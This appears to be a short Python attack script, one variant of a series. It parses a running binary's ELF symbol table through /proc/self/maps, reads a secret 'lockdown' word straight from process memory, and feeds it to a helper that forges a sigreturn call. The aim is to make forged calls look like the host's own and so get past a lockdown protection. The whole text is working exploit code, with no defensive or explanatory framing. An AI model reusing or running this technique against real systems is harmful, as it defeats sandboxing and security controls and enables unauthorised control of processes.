# the same, with the number that the host's own calls carry
import ctypes, forging, struct
def word():
    with open("/proc/self/maps") as file:
        first = next(line.split() for line in file if line.rstrip().endswith("/lane-steps"))
    base = int(first[0].split("-")[0], 16)
    with open(first[-1], "rb") as file:
        program = file.read()
    sections = struct.unpack_from("<Q", program, 40)[0]
    count = struct.unpack_from("<H", program, 60)[0]
    headers = [struct.unpack_from("<IIQQQQIIQQ", program, sections + 64 * i) for i in range(count)]
    symbols = next(header for header in headers if header[1] == 2)
    names = headers[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        name, _, _, value, _ = struct.unpack_from("<IHHQQ", program, at)
        name = program[names + name:program.index(b"\0", names + name)]
        if b"8lockdown3own4WORD" in name:
            return ctypes.c_uint64.from_address(base + value).value
forging.attempt("sigreturn_with_word", word())
